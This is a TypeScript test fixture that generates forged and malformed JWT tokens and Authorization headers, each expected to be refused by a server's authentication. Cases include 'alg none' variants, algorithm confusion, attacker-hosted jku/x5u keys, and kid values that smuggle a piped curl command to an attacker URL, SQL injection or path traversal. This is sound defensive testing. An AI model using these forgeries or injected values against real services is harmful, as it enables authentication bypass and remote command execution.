// Tokens that must open nothing, as data: what each tries, and how it is refused.
import { linkKeyOf } from "../../src/http/caller/links.ts";
import type { ErrorCode } from "../../src/model/errors.ts";
import { TEST_SECRET } from "../support/server.ts";
import { AUDIENCE, hmacToken, ISSUER, KEY_ALGORITHMS, part, type SigningKey } from "./tokenParts.ts";

/** "Authorization: Bearer TOKEN", or whole headers. */
export type Hostile = { title: string; token?: string; authorization?: string; code: ErrorCode };

export type HostileSource = {
  nowS: number;
  /** Keys of the provider, one of each algorithm. */
  keys: SigningKey[];
  /** A key that the provider does not know. */
  strangers: SigningKey[];
  /** Where the attacker would have keys fetched from. */
  attackerUrl: string;
};

const SECRET = new TextEncoder().encode(TEST_SECRET);
const HS256 = { alg: "HS256", typ: "JWT" };
const refused = (title: string, token: string, code: ErrorCode = "token_invalid"): Hostile => ({
  title,
  token,
  code,
});

/** Good claims for the local secret, and for the provider. */
export const claimsAt = (nowS: number) => ({
  sub: "ada",
  workspace: "acme",
  scope: "admin",
  exp: nowS + 3600,
});
export const providerClaimsAt = (nowS: number) => ({ ...claimsAt(nowS), iss: ISSUER, aud: AUDIENCE });

/** Algorithms: none in every spelling, others with the right secret, one's key used as another's. */
export async function algorithmTricks({ nowS, keys }: HostileSource): Promise<Hostile[]> {
  const claims = claimsAt(nowS);
  const nones = ["none", "None", "NONE", "nOnE", "none ", "\u0000none", ""].flatMap((alg) => [
    refused(`alg ${JSON.stringify(alg)} without a signature`, `${part({ alg })}.${part(claims)}.`),
    refused(`alg ${JSON.stringify(alg)} with a signature`, hmacToken({ alg }, claims)),
  ]);
  const spellings = ["HS384", "HS512", "hs256", "HS256 ", "HMAC", "A256GCM", "dir", "PS256", "RS1", "ES256K"];
  const others = spellings.map((alg) =>
    refused(`alg ${alg} with the right secret`, hmacToken({ alg }, claims)),
  );
  const typed = [null, 256, true, ["HS256"], { alg: "HS256" }].map((alg) =>
    refused(`alg ${JSON.stringify(alg)}`, hmacToken({ alg } as object, claims)),
  );
  const asSecret = keys.flatMap(({ publicJwk, algorithm }) => [
    refused(
      `HS256 with the public ${algorithm} key as JSON for a secret`,
      hmacToken(HS256, claims, { secret: JSON.stringify(publicJwk) }),
    ),
    refused(
      `HS256 with the public ${algorithm} key's bytes for a secret`,
      hmacToken(HS256, claims, { secret: Buffer.from(publicJwk.n ?? publicJwk.x ?? "", "base64url") }),
    ),
    refused(
      `${algorithm} in the header over an HMAC with the right secret`,
      hmacToken({ alg: algorithm, kid: publicJwk.kid }, providerClaimsAt(nowS)),
    ),
  ]);
  const swapped = await Promise.all(
    keys.flatMap((key) =>
      KEY_ALGORITHMS.filter((alg) => alg !== key.algorithm).map(async (alg) =>
        refused(
          `${alg} in the header over a signature with ${key.algorithm}`,
          await key.sign(providerClaimsAt(nowS), { alg }),
        ),
      ),
    ),
  );
  return [...nones, ...others, ...typed, ...asSecret, ...swapped];
}

/** Headers that would make a careless server fetch or take the attacker's key. */
export async function keyTricks({ nowS, keys, strangers, attackerUrl }: HostileSource): Promise<Hostile[]> {
  const claims = providerClaimsAt(nowS);
  const headers: [string, (key: SigningKey) => Record<string, unknown>][] = [
    ["an unknown kid", () => ({})],
    ["no kid", () => ({ kid: undefined })],
    ["the kid of a real key", ({ algorithm }) => ({ kid: keys.find((k) => k.algorithm === algorithm)?.kid })],
    ["an embedded jwk", ({ publicJwk }) => ({ jwk: publicJwk })],
    ["a jku", () => ({ jku: `${attackerUrl}/jku` })],
    ["an x5u", () => ({ x5u: `${attackerUrl}/x5u` })],
    ["an x5c", () => ({ x5c: ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"] })],
    ["a kid that is an address", () => ({ kid: `${attackerUrl}/kid` })],
    ["a kid that is a path", () => ({ kid: "../../../../dev/null" })],
    ["a kid that is SQL", () => ({ kid: "x' UNION SELECT 'secret' --" })],
    ["a kid that is a command", () => ({ kid: `| curl ${attackerUrl}/command` })],
    ["a kid that is a number", () => ({ kid: 1 })],
    ["a kid that is a name of JavaScript", () => ({ kid: "__proto__" })],
  ];
  const signed = strangers.flatMap((key) =>
    headers.map(async ([title, header]) =>
      refused(`${key.algorithm} of a stranger with ${title}`, await key.sign(claims, header(key))),
    ),
  );
  const secrets = ["", "secret", "null", "undefined", "nines signed links"].map((secret) =>
    refused(
      `HS256 with the secret ${JSON.stringify(secret)} and a kid of /dev/null`,
      hmacToken({ ...HS256, kid: "/dev/null" }, claims, { secret }),
    ),
  );
  const symmetric = hmacToken({ ...HS256, jwk: { kty: "oct", k: part("the attacker's secret") } }, claims, {
    secret: "the attacker's secret",
  });
  return [
    ...(await Promise.all(signed)),
    ...secrets,
    refused("HS256 with an embedded secret", symmetric),
    refused("HS256 with the key of signed links", hmacToken(HS256, claims, { secret: linkKeyOf(SECRET) })),
  ];
}

/** Well signed, but needing what is not there, or not meant as an access token. */
export async function headerTricks({ nowS, keys }: HostileSource): Promise<Hostile[]> {
  const claims = claimsAt(nowS);
  const headers: Record<string, unknown>[] = [
    { crit: ["exp"], exp: nowS + 10 },
    { crit: ["b64"], b64: true },
    { crit: ["b64"], b64: false },
    { b64: false },
    { crit: [] },
    { crit: ["urn:example:unknown"], "urn:example:unknown": 1 },
    { typ: "logout+jwt" },
    { typ: "dpop+jwt" },
    { typ: "JOSE+JSON" },
    { typ: 5 },
  ];
  const local = headers.map((header) =>
    refused(`HS256 with the header ${JSON.stringify(header)}`, hmacToken({ ...HS256, ...header }, claims)),
  );
  const logout = keys.map(async (key) =>
    refused(
      `a logout token signed with ${key.algorithm}`,
      await key.sign(providerClaimsAt(nowS), { typ: "logout+jwt" }),
    ),
  );
  return [
    ...local,
    ...(await Promise.all(logout)),
    refused("two algorithms in one header", hmacToken('{"alg":"HS256","alg":"HS256"}', claims)),
    refused("a header that is a list", hmacToken("[]", claims)),
    refused("a header that is no JSON", hmacToken("{alg:HS256}", claims)),
  ];
}

/** Well signed claims that must not be believed. */
export async function claimTricks({ nowS, keys }: HostileSource): Promise<Hostile[]> {
  const claims = claimsAt(nowS);
  const good = JSON.stringify(claims);
  const wrong: [claim: string, values: unknown[]][] = [
    ["exp", [undefined, null, "", String(nowS + 3600), [nowS + 3600], true, {}, (nowS + 3600) * 1000]],
    ["iat", [nowS + 61, nowS + 86_400, 1e300, "now", null, [nowS]]],
    ["nbf", [nowS + 61, nowS + 86_400, 1e300, "now", null, [nowS]]],
    ["sub", [undefined, null, "", 5, ["ada"], {}, "x".repeat(201), "a\nb", "a\u0000", "\ud800"]],
    [
      "workspace",
      [undefined, null, "", 5, ["acme"], { 0: "acme" }, "../other", "a/b", "*", "%", "acme\u0000"],
    ],
    ["workspace", ["acme\n", " acme", "аcme", "acme\u200b", "..", "x".repeat(65), "acme' OR '1'='1", true]],
    ["scope", [undefined, null, 5, ["admin"], { admin: true }, true]],
  ];
  const typed = wrong.flatMap(([claim, values]) =>
    values.map((value) =>
      refused(
        `the claim ${claim}: ${String(JSON.stringify(value)).slice(0, 40)}`,
        hmacToken(HS256, { ...claims, [claim]: value }),
      ),
    ),
  );
  const expired = [1, 60, 3600, nowS].map((ago) =>
    refused(
      `expired ${ago} s ago, and the leeway`,
      hmacToken(HS256, { ...claims, exp: nowS - 59 - ago }),
      "token_expired",
    ),
  );
  const raw: [string, string][] = [
    ["exp twice", good.replace("{", `{"exp":1,`)],
    ["workspace twice", good.replace("{", '{"workspace":"other",')],
    ["workspace twice, once in escapes", good.replace("{", '{"work\\u0073pace":"other",')],
    ["a nested name twice", good.replace("{", '{"cnf":{"a":1,"a":2},')],
    ["an endless exp", good.replace(/"exp":\d+/, '"exp":1e999')],
    ["workspace by way of __proto__", good.replace('"workspace":"acme"', '"__proto__":{"workspace":"acme"}')],
    ["claims that are a list", `[${good}]`],
    ["claims that are text", '"admin"'],
    ["claims that are null", "null"],
    ["claims with a mark of byte order", `\ufeff${good}`],
    ["claims with more behind them", `${good}{}`],
    [
      "claims nested a thousand deep",
      good.replace("{", `{"x":${"[".repeat(1000)}${"]".repeat(1000)},"x":1,`),
    ],
  ];
  const binary = Buffer.from(good.replace("ada", "a\u00e9"), "latin1").toString("base64url");
  const provider: [string, Record<string, unknown>][] = [
    ["no issuer", { iss: undefined }],
    ["another issuer", { iss: "https://attacker.example.com/" }],
    ["an issuer that begins like the right one", { iss: `${ISSUER}x` }],
    ["issuers as a list", { iss: [ISSUER] }],
    ["no audience", { aud: undefined }],
    ["another audience", { aud: "grafana" }],
    ["audiences without ours", { aud: ["grafana", "Nines"] }],
    ["an audience that is an object", { aud: { nines: true } }],
    ["no exp", { exp: undefined }],
    ["a future iat", { iat: nowS + 61 }],
    ["a workspace that is a list", { workspace: ["acme"] }],
  ];
  const signed = keys.flatMap((key) =>
    provider.map(async ([title, changes]) =>
      refused(`${key.algorithm} with ${title}`, await key.sign({ ...providerClaimsAt(nowS), ...changes })),
    ),
  );
  return [
    ...typed,
    ...expired,
    ...raw.map(([title, json]) => refused(title, hmacToken(HS256, json))),
    refused("claims that are not UTF-8", hmacBinary(binary)),
    ...(await Promise.all(signed)),
  ];
}

function hmacBinary(claims: string): string {
  return hmacToken(HS256, Buffer.from(claims, "base64url").toString("latin1")).replace(
    /\.[^.]+\./,
    `.${claims}.`,
  );
}

/** A good token, bent. */
export function formTricks({ nowS }: HostileSource): Hostile[] {
  const good = hmacToken(HS256, claimsAt(nowS));
  const [head = "", body = "", signature = ""] = good.split(".");
  const last = signature.at(-1) as string;
  // The last letter of 32 bytes holds two bits that mean nothing: another spelling of the same signature.
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  const sibling = alphabet[alphabet.indexOf(last) ^ 1];
  const tokens: [string, string][] = [
    ["the signature stripped", `${head}.${body}.`],
    ["the signature and its dot stripped", `${head}.${body}`],
    ["a truncated signature", good.slice(0, -1)],
    ["a truncated half", good.slice(0, good.length / 2)],
    ["a fourth part", `${good}.x`],
    ["five parts, as of an encrypted token", `${good}.x.y`],
    ["an empty header", `.${body}.${signature}`],
    ["an empty payload", `${head}..${signature}`],
    ["only dots", ".."],
    ["padding", `${good}=`],
    ["another spelling of the signature", `${good.slice(0, -1)}${sibling}`],
    [
      "the letters of plain base64",
      `${head}.${body}.${signature.replaceAll("-", "+").replaceAll("_", "/")}+`,
    ],
    [
      "the signature of other claims",
      `${head}.${part({ ...claimsAt(nowS), workspace: "other" })}.${signature}`,
    ],
    ["the header of another token", `${part({ alg: "HS256" })}.${body}.${signature}`],
    ["a huge one", hmacToken(HS256, { ...claimsAt(nowS), padding: "x".repeat(8192) })],
    ["8,193 letters", `${head}.${"A".repeat(8193 - head.length - signature.length - 2)}.${signature}`],
    ["a JSON serialization", part({ protected: head, payload: body, signature })],
  ];
  const headers: [string, string][] = [
    ["no scheme", good],
    ["another scheme", `Token ${good}`],
    ["Basic", `Basic ${Buffer.from(`ada:${good}`).toString("base64")}`],
    ["nothing behind the scheme", "Bearer"],
    ["no space", `Bearer${good}`],
    ["a tab for the space", `Bearer\t${good}`],
    ["a space within", `Bearer ${good.slice(0, 20)} ${good.slice(20)}`],
    ["quotes", `Bearer "${good}"`],
    ["two tokens with a comma", `Bearer ${good}, Bearer ${good}`],
    ["two tokens with a space", `Bearer ${good} ${good}`],
    ["the scheme twice", `Bearer Bearer ${good}`],
    ["a parameter", `Bearer token=${good}`],
    ["letters outside ASCII", `Bearer ${good.slice(0, -1)}é`],
  ];
  return [
    ...tokens.map(([title, token]) => refused(title, token)),
    ...headers.map(([title, authorization]): Hostile => ({ title, authorization, code: "token_invalid" })),
  ];
}

/** Well signed, and believed, but allowing nothing. */
export function scopeTricks({ nowS }: HostileSource): Hostile[] {
  const scopes = [
    "",
    " ",
    "Admin",
    "ADMIN",
    "admin\t",
    "sla:*",
    "*",
    "аdmin",
    "admin\u200b",
    "sla:read,admin",
  ];
  return [...scopes, "sla:read\nadmin", '["admin"]', "sla:reader", "openid profile", "constructor"].map(
    (scope) =>
      refused(
        `the scope ${JSON.stringify(scope)}`,
        hmacToken(HS256, { ...claimsAt(nowS), scope }),
        "scope_missing",
      ),
  );
}
